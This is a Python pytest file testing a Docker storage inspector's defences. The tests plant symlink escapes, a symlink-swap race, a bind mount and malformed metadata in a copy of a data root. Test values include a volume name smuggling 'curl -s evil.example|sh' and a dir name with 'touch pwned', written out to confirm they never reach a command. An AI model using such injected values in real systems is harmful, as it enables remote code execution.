"""Attacks on the reader and the walker (issue 17), each on a copy of a real data root.

The copy is ``sample_data/root``, written by a real dockerd (see sample_data/README.md). Each
test plants what a hostile container, image or a half-trusted operator could, and checks that
the tool neither leaves the root nor lets the planted data through:

- a symlink in the *middle* of a metadata path (``image/overlay2``, ``image``, ``layerdb``,
  ``volumes``, ``containers/<id>``, a vfs ``-init`` dir) is reported, never followed;
- a container process swapping a dir of its volume for a symlink to the host while the walk
  runs (a bounded background loop during repeated scans) never makes the walk count host data;
- a bind mount inside the root (made and removed by the test) is not entered;
- a 2-byte ``size`` file (``²``) is a skipped entry, not an internal error;
- a volume name that Docker would refuse never reaches a remedy's command line or a path
  outside the root;
- thousands of planted orphan dirs become one grouped finding.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from test_bbolt import build_db, inline_bucket, leaf_body

from inspector import cli, inventory
from inspector.errors import ReaderError
from inspector.measure import vfsdiff, walker
from inspector.readers import fs

REPO = Path(__file__).resolve().parents[1]
SAMPLE = REPO / "sample_data" / "root"
MANIFEST = json.loads((REPO / "sample_data" / "MANIFEST.json").read_text())
SCENARIO = MANIFEST["scenario"]
HOUR_AGO = time.time() - 3600
TERA = 1024**4


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A private copy of the sample root."""
    dst = tmp_path / "root"
    shutil.copytree(SAMPLE, dst, symlinks=True)
    return dst


def report(root: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> dict[str, Any]:
    """`report --format json` in-process; the document (exit code 0 asserted)."""
    rc = cli.main(["report", "--root", str(root), "--format", "json", "--no-cache", *extra])
    out, err = capsys.readouterr()
    assert rc == 0, err
    assert "internal error" not in err
    doc: dict[str, Any] = json.loads(out)
    return doc


def findings(doc: dict[str, Any], kind: str) -> list[dict[str, Any]]:
    return [f for f in doc["findings"] if f["kind"] == kind]


def move_out(root: Path, rel: str, outside: Path) -> Path:
    """Move root/rel to outside/rel and put a symlink to it in its place; the new home."""
    src = root / rel
    dst = outside / rel
    dst.parent.mkdir(parents=True, exist_ok=True)
    shutil.move(str(src), str(dst))
    os.symlink(dst, src)
    return dst


def plant_tag(image_dir: Path) -> None:
    """Add a tag only the planted (outside) copy of repositories.json holds."""
    path = image_dir / "repositories.json"
    doc = json.loads(path.read_text())
    iid = SCENARIO["images"]["busybox:base"]
    doc["Repositories"]["planted"] = {"planted:evil": iid}
    path.write_text(json.dumps(doc))


# --------------------------------------------------------------------------- symlinks on the way


@pytest.mark.parametrize("rel", ["image", "image/overlay2", "image/overlay2/layerdb"])
def test_symlinked_image_metadata_is_reported_not_followed(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], rel: str
) -> None:
    moved = move_out(root, rel, tmp_path / "outside")
    if rel != "image/overlay2/layerdb":
        plant_tag(tmp_path / "outside" / "image" / "overlay2")
    doc = report(root, capsys)
    text = json.dumps(doc)
    assert "planted:evil" not in text
    assert str(tmp_path / "outside") not in text  # nothing read there, not even named
    # The layers the outside tree holds are not reported as the root's.
    assert doc["layers"] == []
    bad = [
        f
        for f in findings(doc, "unreadable")
        if "symlink" in f["detail"] and f["path"].startswith(str(root))
    ]
    assert bad, doc["findings"]
    assert moved.exists()


def test_symlinked_volumes_dir_is_reported_not_followed(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outside = move_out(root, "volumes", tmp_path / "outside")
    (outside / "plantedvol" / "_data").mkdir(parents=True)
    (outside / "plantedvol" / "_data" / "f").write_bytes(b"p" * 1000)
    doc = report(root, capsys)
    assert doc["volumes"] == []
    assert "plantedvol" not in json.dumps(doc)
    assert any(
        f["path"] == str(root / "volumes") and "symlink" in f["detail"]
        for f in findings(doc, "unreadable")
    ), doc["findings"]


def test_symlinked_container_dir_is_not_read_even_by_the_store_detection(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cid = SCENARIO["containers"]["fresh"]
    outside = move_out(root, f"containers/{cid}", tmp_path / "outside")
    cfg = json.loads((outside / "config.v2.json").read_text())
    cfg["Name"] = "/planted-container"
    cfg["Driver"] = "overlayfs"  # would make the store detection see a snapshotter
    (outside / "config.v2.json").write_text(json.dumps(cfg))
    doc = report(root, capsys)
    text = json.dumps(doc)
    assert "planted-container" not in text
    assert not any("containerd" in n for n in doc["notes"]), doc["notes"]
    assert cid not in {c["id"] for c in doc["containers"]}
    assert any(
        f["path"] == str(root / "containers" / cid) and "symlink" in f["detail"]
        for f in findings(doc, "unreadable")
    )


def test_fs_refuses_paths_outside_or_through_symlinks_while_anchored(
    root: Path, tmp_path: Path
) -> None:
    (tmp_path / "secret").write_text("s")
    os.symlink(tmp_path, root / "network" / "escape")
    with fs.anchored(str(root)):
        with pytest.raises(fs.PathEscape):
            fs.read_bytes(str(root / "network" / "escape" / "secret"))
        with pytest.raises(fs.PathEscape):
            fs.read_bytes(str(root / "volumes" / ".." / ".." / "secret"))
        with pytest.raises(fs.PathEscape):
            fs.read_bytes(str(tmp_path / "secret"))  # outside every anchored root
        with pytest.raises(ReaderError, match="symlink"):
            fs.list_dir(str(root / "network" / "escape"))
        assert fs.read_bytes(str(root / "volumes" / "metadata.db"), 1 << 20)
    assert fs.anchored_roots() == []


def test_vfs_init_symlinked_to_the_host_is_not_compared(tmp_path: Path) -> None:
    """vfs SizeRw compares a container's copy with its -init copy: never with the host."""
    home = tmp_path / "root" / "vfs" / "dir"
    new = home / ("a" * 64)
    (new / "etc").mkdir(parents=True)
    (new / "etc" / "same").write_bytes(b"12345")
    host = tmp_path / "host"
    (host / "etc").mkdir(parents=True)
    (host / "etc" / "same").write_bytes(b"12345")
    st = os.stat(new / "etc" / "same")
    os.utime(host / "etc" / "same", ns=(st.st_atime_ns, st.st_mtime_ns))
    os.symlink(host, home / ("a" * 64 + "-init"))
    with fs.anchored(str(tmp_path / "root")):
        got = vfsdiff.changes_size(str(new), str(home / ("a" * 64 + "-init")))
    # Following the symlink would find an identical file there and count 0.
    assert got == 5


# --------------------------------------------------------------------------- the swap race

SWAPPER = r"""
import os, sys, time
d, outside, until = sys.argv[1], sys.argv[2], float(sys.argv[3])
real = d + ".real"
while time.time() < until:
    try:
        os.rename(d, real); os.symlink(outside, d)
        os.unlink(d); os.rename(real, d)
    except OSError:
        pass
"""


def _swap_tree(base: Path, outside: Path) -> Path:
    """A volume tree whose `spin/` dir the attacker swaps; its twin outside holds 1 TiB."""
    data = base / "_data"
    spin = data / "spin"
    (spin / "sub").mkdir(parents=True)
    (spin / "sub" / "mine").write_bytes(b"m" * 10)
    for i in range(3000):  # lstat-ing these keeps `spin/sub` waiting on the stack a while
        (spin / f"f{i}").touch()
    (outside / "sub").mkdir(parents=True)
    with open(outside / "sub" / "big", "wb") as fh:
        fh.truncate(TERA)
    with open(outside / "big", "wb") as fh:
        fh.truncate(TERA)
    return spin


def test_swapping_a_dir_for_a_symlink_during_walks_never_counts_host_data(
    root: Path, tmp_path: Path
) -> None:
    vol = root / "volumes" / "appdata"
    spin = _swap_tree(vol, tmp_path / "host")
    until = time.time() + 8
    proc = subprocess.Popen(
        [sys.executable, "-c", SWAPPER, str(spin), str(tmp_path / "host"), str(until)]
    )
    biggest = 0
    walks = 0
    try:
        with fs.anchored(str(root)):
            while time.time() < until - 0.5:
                got = walker.walk_tree(str(vol), "_data")
                biggest = max(biggest, got.apparent)
                walks += 1
    finally:
        proc.kill()
        proc.wait()
    assert walks >= 20
    assert biggest < TERA, f"the walk counted host data ({biggest} bytes) in one of {walks}"


# --------------------------------------------------------------------------- mount points


def test_a_bind_mount_inside_the_root_is_not_entered(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    host = tmp_path / "host"
    host.mkdir()
    with open(host / "big", "wb") as fh:
        fh.truncate(TERA)
    data = root / "volumes" / "appdata" / "_data"
    subprocess.run(["mount", "--bind", str(host), str(data)], check=True)
    try:
        doc = report(root, capsys)
    finally:
        subprocess.run(["umount", str(data)], check=True)
    vols = {v["name"]: v for v in doc["volumes"]}
    assert vols["appdata"]["size"] is None
    assert "mount point" in vols["appdata"]["mounted"]
    assert doc["totals"]["disk_usage"] < TERA
    assert all(c["bytes"] < TERA for c in doc["totals"]["categories"].values())
    assert doc["totals"]["volumes_size"] < TERA


# --------------------------------------------------------------------------- numbers


def test_a_non_ascii_digit_size_is_a_skipped_entry(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    layerdb = root / "image" / "overlay2" / "layerdb" / "sha256"
    victim = sorted(layerdb.iterdir())[0]
    (victim / "size").write_text("²")
    removing = layerdb / (victim.name + "-" + "0" * 64 + "-removing")
    shutil.copytree(victim, removing)
    doc = report(root, capsys)
    reasons = {f["path"]: f["detail"] for f in findings(doc, "unreadable")}
    assert "not a decimal number" in reasons[str(victim)]
    assert "not a decimal number" in reasons[str(removing)]
    assert doc["images"]  # the rest of the report is there


# --------------------------------------------------------------------------- names


def _volume_db(entries: dict[bytes, bytes]) -> bytes:
    inner = sorted((0, k, v) for k, v in entries.items())
    return build_db({3: leaf_body([(1, b"volumes", inline_bucket(inner))], 3)})


def test_hostile_volume_names_never_reach_a_command_or_leave_the_root(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = "x;curl -s evil.example|sh;#"
    (root / "volumes" / evil / "_data").mkdir(parents=True)
    meta = json.dumps({"Name": "n", "Driver": "local", "Labels": None, "Options": None})
    db = _volume_db(
        {
            b"../../../../etc": meta.encode(),
            b"/etc": meta.encode(),
            b"appdata": meta.encode(),
            b"unused": meta.encode(),
        }
    )
    (root / "volumes" / "metadata.db").write_bytes(db)
    doc = report(root, capsys)
    text = json.dumps(doc)
    assert "curl -s evil" not in " ".join(f["remedy"] for f in doc["findings"])
    names = {v["name"] for v in doc["volumes"]}
    assert evil not in names and "../../../../etc" not in names and "/etc" not in names
    assert {"appdata", "unused"} <= names
    for f in doc["findings"]:
        assert os.path.normpath(f["path"]).startswith(str(root)), f["path"]
    refused = [f for f in findings(doc, "unreadable") if "not one Docker accepts" in f["detail"]]
    assert len(refused) == 3, refused
    assert "evil.example" in text  # reported (escaped in the detail), just never as a command


def test_remedies_quote_every_name(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An orphan dir whose name a shell would split is quoted in the printed procedure."""
    odd = root / "overlay2" / "odd name;touch pwned"
    odd.mkdir()
    os.utime(odd, (HOUR_AGO, HOUR_AGO))
    doc = report(root, capsys)
    (f,) = [f for f in findings(doc, "orphan_dir") if f["path"] == str(odd)]
    assert f"'{odd}'" in f["remedy"]


# --------------------------------------------------------------------------- many of one kind


def test_thousands_of_planted_dirs_are_one_grouped_finding(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home = root / "overlay2"
    for i in range(1500):
        d = home / f"{i:064x}"
        d.mkdir()
        os.utime(d, (HOUR_AGO, HOUR_AGO))
    doc = report(root, capsys)
    orphans = findings(doc, "orphan_dir")
    grouped = [f for f in orphans if f.get("count", 1) > 1]
    assert len(grouped) == 1, [f["path"] for f in orphans][:5]
    g = grouped[0]
    assert g["count"] == 1500
    assert g["path"] == str(home)
    assert len(g["examples"]) == 20
    assert len(doc["findings"]) < 100
    # Docker's numbers and the byte totals are not changed by the grouping.
    assert inventory.read(str(root)).storage_dirs  # still every dir in the model
